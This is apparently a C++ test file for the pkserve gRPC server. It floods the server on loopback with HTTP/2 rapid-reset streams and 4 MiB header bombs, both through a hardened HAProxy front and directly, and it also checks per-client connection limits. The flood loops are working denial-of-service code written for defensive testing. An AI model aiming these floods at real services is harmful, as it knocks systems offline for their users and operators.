// HTTP/2 rapid reset and metadata bombs (issue 23, items 1 and 3) against the pkserve binary on
// loopback, beside the good caller (attack.h's bounds):
//   - rapid reset: HEADERS for TopK then RST_STREAM at once, 9 400 pairs/s on one connection, and
//     on each of four;
//   - metadata before the SETTINGS ACK: a client that never ACKs sends 256 streams a connection,
//     each with a 4 MiB header value (the advertised limit is 8 KiB), on four connections.
// gRPC 1.51 has no defence against either that pkserve can turn on (MAX_CONCURRENT_STREAMS and
// the advertised header-list size bind only once the client ACKs; there is no reset-rate or
// pending-frames setting). So each attack runs twice: through the hardened front of
// deploy/haproxy/haproxy.cfg (HAProxy 2.6, skipped where haproxy is not installed), where it must
// hold; and at pkserve directly, DISABLED: it fails there, and is the measurement the issue asks
// for (run with --gtest_also_run_disabled_tests).
#include <gtest/gtest.h>
#include <stdlib.h>
#include <unistd.h>

#include <atomic>
#include <iostream>
#include <random>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "tests/reliability/attack.h"
#include "tests/reliability/raw_http2.h"
#include "tests/server/test_support.h"

namespace pkserve {
namespace {

namespace h2 = testing::http2;

constexpr char kTopK[] = "/pkserve.v1.SparseMemory/TopK";
constexpr uint8_t kContinuation = 0x9;
constexpr char kCancel[] = {0, 0, 0, 8};  // RST_STREAM's error code CANCEL

// HEADERS + RST_STREAM pairs at `pairs_per_second` on one connection until `stop`; reconnects
// when the server closes it. Counts the pairs sent.
void RapidReset(int port, const std::string& authority, int pairs_per_second,
                const std::atomic<bool>& stop, std::atomic<int64_t>& pairs) {
  const std::string headers = h2::GrpcRequestHeaders(kTopK, authority);
  const std::string reset(kCancel, sizeof kCancel);
  constexpr absl::Duration kTick = absl::Milliseconds(10);
  const int per_tick = std::max(1, pairs_per_second / 100);
  while (!stop) {
    std::unique_ptr<h2::Connection> connection = h2::Connection::TryOpen(port);
    if (connection == nullptr) {
      absl::SleepFor(absl::Milliseconds(100));
      continue;
    }
    if (!connection->Send(h2::ClientPreface() + h2::Frame(h2::kSettings, h2::kAck, 0, ""))) {
      continue;
    }
    uint32_t stream_id = 1;
    absl::Time next = absl::Now();
    while (!stop && stream_id < (1u << 30)) {
      std::string burst;
      for (int i = 0; i < per_tick; ++i, stream_id += 2) {
        burst += h2::Frame(h2::kHeaders, h2::kEndHeaders, stream_id, headers);
        burst += h2::Frame(h2::kRstStream, 0, stream_id, reset);
      }
      if (!connection->Send(burst)) break;
      pairs += per_tick;
      connection->ReadFor(absl::ZeroDuration());  // what the server sends is read and dropped
      if (connection->closed_by_peer()) break;
      next += kTick;
      absl::SleepFor(next - absl::Now());
    }
  }
}

constexpr char kHaproxy[] = "/usr/sbin/haproxy";

// The hardened front (deploy/haproxy/haproxy.cfg) before pkserve's port, as `front` of
// AttackHarness: starts it into `holder` and returns its port once it accepts, or 0.
int StartFront(int pkserve_port, std::unique_ptr<testing::PkserveProcess>& holder) {
  const int port = testing::FreeLoopbackPort();
  setenv("PKFRONT_BIND", absl::StrCat("127.0.0.1:", port).c_str(), 1);
  setenv("PKSERVE_ADDR", absl::StrCat("127.0.0.1:", pkserve_port).c_str(), 1);
  holder = std::make_unique<testing::PkserveProcess>(
      kHaproxy, std::vector<std::string>{"-db", "-f", PK_HAPROXY_CFG});
  const absl::Time give_up = absl::Now() + absl::Seconds(10);
  while (absl::Now() < give_up && holder->running()) {
    if (h2::Connection::TryOpen(port) != nullptr) return port;
    absl::SleepFor(absl::Milliseconds(20));
  }
  ADD_FAILURE() << "haproxy did not start; its log:\n" << holder->log();
  return 0;
}

// Runs the attacks at pkserve itself or through the front.
class AttackTest : public ::testing::Test {
 protected:
  std::unique_ptr<testing::AttackHarness> Harness(bool through_front) {
    if (!through_front) return std::make_unique<testing::AttackHarness>();
    return std::make_unique<testing::AttackHarness>(
        std::vector<std::string>{}, std::vector<std::string>{},
        [this](int pkserve_port) { return StartFront(pkserve_port, front_); });
  }
  void SkipWithoutHaproxy() {
    if (access(kHaproxy, X_OK) != 0) GTEST_SKIP() << kHaproxy << " is not installed";
  }
  // A CPU pkserve of one compute thread with the front before it; the front's port, or 0 (and a
  // test failure).
  int ServeThroughTheFront() {
    server_ = std::make_unique<testing::ChildServer>(
        PKSERVE_BINARY, std::vector<std::string>{"--backend=cpu", "--threads=1"});
    if (server_->port() <= 0) {
      ADD_FAILURE() << "pkserve did not start";
      return 0;
    }
    return StartFront(server_->port(), front_);
  }

  std::unique_ptr<testing::ChildServer> server_;
  std::unique_ptr<testing::PkserveProcess> front_;
};

void RapidResetAttack(testing::AttackHarness& harness, const std::string& name, int connections) {
  std::atomic<int64_t> pairs{0};
  const int port = harness.port();
  const std::string authority = harness.target();
  harness.RunAndCheck(name, connections, [&](const std::atomic<bool>& stop) {
    RapidReset(port, authority, 9400, stop, pairs);  // on each connection
  });
  std::cout << pairs.load() << " HEADERS+RST_STREAM pairs sent\n";
}

void MetadataAttack(testing::AttackHarness& harness, const std::string& name) {
  const int port = harness.port();
  const std::string authority = harness.target();
  // One header block: the request's fields and a 4 MiB value, as HEADERS + CONTINUATIONs.
  const std::string block =
      h2::GrpcRequestHeaders(kTopK, authority, {{"x-bomb", std::string(4 << 20, 'a')}});
  std::atomic<int64_t> streams{0};
  harness.RunAndCheck(name, 4, [&](const std::atomic<bool>& stop) {
    while (!stop) {
      std::unique_ptr<h2::Connection> connection = h2::Connection::TryOpen(port);
      if (connection == nullptr) {
        absl::SleepFor(absl::Milliseconds(100));
        continue;
      }
      if (!connection->Send(h2::ClientPreface())) continue;  // and never an ACK
      for (uint32_t stream_id = 1; stream_id < 512 && !stop; stream_id += 2) {
        constexpr size_t kFrame = 16384;
        std::string frames;
        for (size_t at = 0; at < block.size(); at += kFrame) {
          const bool last = at + kFrame >= block.size();
          frames += h2::Frame(at == 0 ? h2::kHeaders : kContinuation, last ? h2::kEndHeaders : 0,
                              stream_id, std::string_view(block).substr(at, kFrame));
        }
        if (!connection->Send(frames)) break;
        ++streams;
        connection->ReadFor(absl::ZeroDuration());
        if (connection->closed_by_peer()) break;
      }
      while (!stop && !connection->closed_by_peer()) connection->ReadFor(absl::Milliseconds(50));
    }
  });
  std::cout << streams.load() << " streams with a 4 MiB header sent\n";
}

// What the front must not break: unary calls and a stream that waits for each answer before it
// sends its next request (its first message reaches pkserve at once, not after wait-for-body's
// 1 s).
TEST_F(AttackTest, TheFrontPassesCallsAndStreamsAtOnce) {
  SkipWithoutHaproxy();
  const int port = ServeThroughTheFront();
  ASSERT_GT(port, 0);
  auto stub = v1::SparseMemory::NewStub(
      grpc::CreateChannel(absl::StrCat("127.0.0.1:", port), grpc::InsecureChannelCredentials()));
  std::mt19937_64 engine(4);
  const pk::Problem problem = testing::MakeProblem({256, 256}, 8, pk::DType::kFloat32);
  for (int i = 0; i < 3; ++i) {
    const v1::TopKRequest request = testing::RandomRequest(problem, 4, engine);
    grpc::ClientContext context;
    context.set_deadline(absl::ToChronoTime(absl::Now() + absl::Seconds(10)));
    v1::TopKResponse response;
    const grpc::Status status = stub->TopK(&context, request, &response);
    ASSERT_TRUE(status.ok()) << status.error_message();
    EXPECT_EQ(testing::CheckResponse(request, response), "");
  }
  grpc::ClientContext context;
  context.set_deadline(absl::ToChronoTime(absl::Now() + absl::Seconds(10)));
  auto stream = stub->TopKStream(&context);
  for (int i = 0; i < 3; ++i) {
    const v1::TopKRequest request =
        testing::RandomRequest(problem, 4, engine, absl::StrCat("stream-", i));
    const absl::Time sent = absl::Now();
    ASSERT_TRUE(stream->Write(request));
    v1::TopKStreamResponse response;
    ASSERT_TRUE(stream->Read(&response));
    EXPECT_LT(absl::Now() - sent, absl::Milliseconds(500)) << "request " << i;
    ASSERT_TRUE(response.has_result()) << response.error().message();
    EXPECT_EQ(testing::CheckResponse(request, response.result()), "");
  }
  stream->WritesDone();
  EXPECT_TRUE(stream->Finish().ok());
}

// A GetServerInfo call on a new raw connection from `source` (a loopback address): whether its
// answer comes back (a DATA frame on stream 1 within 1 s) rather than the connection being
// closed. The connection is kept open in `held`.
bool AnsweredFrom(int port, const std::string& authority, const char* source,
                  std::vector<std::unique_ptr<h2::Connection>>& held) {
  std::unique_ptr<h2::Connection> connection = h2::Connection::TryOpen(port, source);
  if (connection == nullptr) return false;
  const std::string call =
      h2::ClientPreface() + h2::Frame(h2::kSettings, h2::kAck, 0, "") +
      h2::Frame(h2::kHeaders, h2::kEndHeaders, 1,
                h2::GrpcRequestHeaders("/pkserve.v1.SparseMemory/GetServerInfo", authority)) +
      h2::Frame(h2::kData, h2::kEndStream, 1, h2::GrpcMessage(""));
  if (!connection->Send(call)) return false;
  const std::string received = connection->ReadFor(absl::Seconds(1));
  bool answered = false;
  for (const h2::ParsedFrame& frame : h2::ParseFrames(received)) {
    answered |= frame.type == h2::kData && frame.stream_id == 1 && frame.payload.size() > 5;
  }
  answered &= !connection->closed_by_peer();
  held.push_back(std::move(connection));
  return answered;
}

// A channel keeps its connection between calls: the front must not close one that served a call
// and then sat idle (HAProxy would apply `timeout http-request`'s 5 s without
// `timeout http-keep-alive`).
TEST_F(AttackTest, TheFrontKeepsAnIdleConnectionBetweenCalls) {
  SkipWithoutHaproxy();
  const int port = ServeThroughTheFront();
  ASSERT_GT(port, 0);
  std::vector<std::unique_ptr<h2::Connection>> held;
  ASSERT_TRUE(AnsweredFrom(port, absl::StrCat("127.0.0.1:", port), "127.0.0.1", held));
  held[0]->ReadFor(absl::Seconds(7));
  EXPECT_FALSE(held[0]->closed_by_peer())
      << "the front closed a connection idle for 7 s after a call";
}

// One client address holding its share of the front's connections (here 8) gets its next
// connection closed, while another address is still served, and gets a connection again once it
// closes one of its own.
TEST_F(AttackTest, OneAddressPastItsShareOfConnectionsIsRefusedWhileOthersAreServed) {
  SkipWithoutHaproxy();
  setenv("PKFRONT_MAX_CONNECTIONS_PER_CLIENT", "8", 1);
  const int port = ServeThroughTheFront();
  unsetenv("PKFRONT_MAX_CONNECTIONS_PER_CLIENT");
  ASSERT_GT(port, 0);
  absl::SleepFor(absl::Milliseconds(200));  // StartFront's probe connection has closed
  const std::string authority = absl::StrCat("127.0.0.1:", port);
  std::vector<std::unique_ptr<h2::Connection>> held;
  for (int i = 0; i < 8; ++i) {
    ASSERT_TRUE(AnsweredFrom(port, authority, "127.0.0.1", held)) << "connection " << i;
  }
  std::vector<std::unique_ptr<h2::Connection>> refused;
  EXPECT_FALSE(AnsweredFrom(port, authority, "127.0.0.1", refused))
      << "a ninth connection from 127.0.0.1 was served";
  std::vector<std::unique_ptr<h2::Connection>> other;
  EXPECT_TRUE(AnsweredFrom(port, authority, "127.0.0.2", other))
      << "127.0.0.2 was not served while 127.0.0.1 held its share";
  held.pop_back();  // closes it
  refused.clear();
  absl::SleepFor(absl::Milliseconds(200));
  EXPECT_TRUE(AnsweredFrom(port, authority, "127.0.0.1", held))
      << "127.0.0.1 was not served again after closing one of its connections";
}

TEST_F(AttackTest, RapidResetOnOneConnectionIsHeldByTheFront) {
  SkipWithoutHaproxy();
  RapidResetAttack(*Harness(true), "rapid reset, 1 connection, front", 1);
}

TEST_F(AttackTest, RapidResetOnFourConnectionsIsHeldByTheFront) {
  SkipWithoutHaproxy();
  RapidResetAttack(*Harness(true), "rapid reset, 4 connections, front", 4);
}

TEST_F(AttackTest, HugeHeadersBeforeTheSettingsAckAreHeldByTheFront) {
  SkipWithoutHaproxy();
  MetadataAttack(*Harness(true), "metadata before the SETTINGS ACK, front");
}

TEST_F(AttackTest, DISABLED_RapidResetOnOneConnectionAtPkserveItself) {
  RapidResetAttack(*Harness(false), "rapid reset, 1 connection, direct", 1);
}

TEST_F(AttackTest, DISABLED_RapidResetOnFourConnectionsAtPkserveItself) {
  RapidResetAttack(*Harness(false), "rapid reset, 4 connections, direct", 4);
}

TEST_F(AttackTest, DISABLED_HugeHeadersBeforeTheSettingsAckAtPkserveItself) {
  MetadataAttack(*Harness(false), "metadata before the SETTINGS ACK, direct");
}

}  // namespace
}  // namespace pkserve
